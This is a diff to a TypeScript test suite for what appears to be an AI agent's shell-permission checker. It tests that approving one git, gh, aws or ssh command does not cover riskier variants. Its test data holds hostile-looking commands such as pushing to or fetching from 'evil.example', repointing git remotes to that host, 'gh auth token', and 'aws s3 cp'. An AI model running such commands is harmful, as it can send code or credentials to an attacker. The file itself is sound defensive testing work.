@@ -160,7 +160,8 @@ describe.skipIf(!sandboxHere)("in a sandbox", () => {
 
   test.each([
     ["git push", "git push"],
-    ["gh pr list", "gh pr"],
+    ["gh pr list", "gh (read only)"],
+    ["gh pr create -t x", "gh pr create"],
     ["ssh host ls", "ssh"],
     ["docker compose up", "docker compose"],
     ["npm install x", "registry.npmjs.org"],
@@ -207,6 +208,138 @@ describe.skipIf(!sandboxHere)("in a sandbox", () => {
       "sh -c 'ssh x'; gh pr list",
     ])
       expect([command, await verdict(at, command)]).toEqual([command, "ask"]);
+  });
+
+  test.each([
+    [
+      "gh pr list",
+      ["gh issue view 3", "gh run view 3 --log", "gh pr checks 3", "gh repo view a/b"],
+    ],
+    ["gh api repos/a/b", ["gh api repos/a/b/pulls --paginate --jq .[].id", "gh api -X GET user"]],
+    ["gh api graphql -f query={viewer}", ["gh api graphql -F n=1 -f query={x}"]],
+    ["gh pr create -t a", ["gh pr create -t b"]],
+  ])("a yes to %s covers %p", async (command, others) => {
+    await run(at, command);
+    for (const other of others) expect([other, await verdict(at, other)]).toEqual([other, "allow"]);
+  });
+
+  test.each([
+    [
+      "gh pr list",
+      "gh pr create -t x|gh pr comment 3 -b x|gh pr checkout 3|gh run rerun 3|gh run download 3|gh issue close 3|" +
+        "gh alias set x y|gh extension install x|gh auth token|gh api x|gh pr list --hostname evil.example",
+    ],
+    [
+      "gh api repos/a/b",
+      "gh api x -f a=b|gh api x -fa=b|gh api x -F a=@f|gh api x --field a=b|gh api x --raw-field=a=b|gh api x --input f|" +
+        "gh api x -XPOST|gh api x --method=PATCH|gh api -X PUT x|gh api --hostname evil.example x|" +
+        "gh api graphql -f query='mutation {x}'|gh api graphql -F query=@f|gh api graphql --input f",
+    ],
+    ["gh pr create -t x", "gh pr edit 3 -t x|gh issue create -t x"],
+    ["aws s3 ls", "aws s3 cp a s3://b|aws iam list-users"],
+    ["brew list", "brew install ./x.rb"],
+    ["systemctl status x", "systemctl start x"],
+    ["tmux ls", "tmux new ./x|tmux send-keys x"],
+    ["open index.html", "open -a ./x.app|open --args x"],
+    ["code x.ts", "code --install-extension ./x.vsix|code --user-data-dir=x x.ts"],
+    ["ssh host ls", "ssh other ls|scp a host:b"],
+  ])("a yes to %s does not cover %s", async (command, others) => {
+    await run(at, command);
+    for (const other of others.split("|"))
+      expect([other, await verdict(at, other)]).toEqual([other, "ask"]);
+  });
+
+  describe("remotes", () => {
+    const git = (...args: string[]) => Bun.spawnSync(["git", ...args], { cwd: at.root });
+    beforeEach(() => {
+      git("init", "-q");
+      git("remote", "add", "origin", "https://example.com/a.git");
+      git("remote", "add", "ssh", "git@example.com:a.git");
+      git("remote", "add", "near", "../near");
+      git("remote", "add", "two", "https://example.com/b.git");
+      git("config", "remote.two.pushurl", "file:///tmp/two");
+      git("init", "-q", "--bare", "evil");
+    });
+
+    test.each([
+      "git push",
+      "git push evil",
+      "git push near main",
+      "git push two",
+      "git push -u near x",
+    ])(
+      "%s, which leads into a folder, is not covered by a rule or a yes for git push",
+      async (command) => {
+        const named = await withRules({ allow: ["Bash(git push:*)"] });
+        Bun.spawnSync(["cp", "-r", join(at.root, ".git"), named.root]);
+        await run(at, "git push origin main");
+        for (const room of [at, named])
+          expect([command, await verdict(room, command)]).toEqual([command, "ask"]);
+      },
+    );
+
+    test.each([
+      "git push https://evil.example/x.git",
+      "git push evil@evil.example:x.git main",
+      "git -C sub push origin",
+      "cd evil && git push origin",
+    ])("%s is not covered by a yes for git push", async (command) => {
+      await run(at, "git push origin main");
+      expect(await verdict(at, command)).toBe("ask");
+    });
+
+    test.each([
+      "git push ssh x",
+      "git push -u origin HEAD",
+      "git push https://example.com/a.git x",
+    ])("%s is", async (command) => {
+      await run(at, "git push origin main");
+      expect(await verdict(at, command)).toBe("allow");
+    });
+
+    test.each([
+      "git fetch near",
+      "git fetch https://evil.example/x.git",
+      "git pull ../other main",
+      "git pull evil",
+      "git fetch ssh://evil.example/x",
+    ])("%s is not covered by a yes for fetching and pulling", async (command) => {
+      await run(at, "git fetch origin");
+      await run(at, "git pull origin main");
+      expect(await verdict(at, command)).toBe("ask");
+    });
+
+    test.each([
+      "git remote add x ../x",
+      "git remote add x https://evil.example/x.git",
+      "git remote set-url origin https://evil.example/x.git",
+      "git remote set-url --push origin /tmp/x",
+      "git config branch.main.remote https://evil.example/x.git",
+      "git config branch.main.pushRemote ../x",
+      "git init sub && git -C sub remote add x ../x",
+    ])("%s does not add an address without an answer", async (command) => {
+      await run(at, command);
+      const configs = [".git/config", "sub/.git/config"].map((path) =>
+        existsSync(join(at.root, path)) ? readFileSync(join(at.root, path), "utf8") : "",
+      );
+      expect(configs.join("")).not.toMatch(/evil|\.\.\/x|tmp\/x/);
+    });
+
+    test.each(["git remote rename two three", "git checkout -q -b x --track origin/main; true"])(
+      "%s needs no answer",
+      async (command) => {
+        git(
+          "update-ref",
+          "refs/remotes/origin/main",
+          git("commit-tree", "-m", "x", "4b825dc642cb6eb9a060e54bf8d69288fbee4904")
+            .stdout.toString()
+            .trim(),
+        );
+        const before = git("config", "--list").stdout.toString();
+        await run(at, command);
+        expect(git("config", "--list").stdout.toString()).not.toBe(before);
+      },
+    );
   });
 
   test.each([
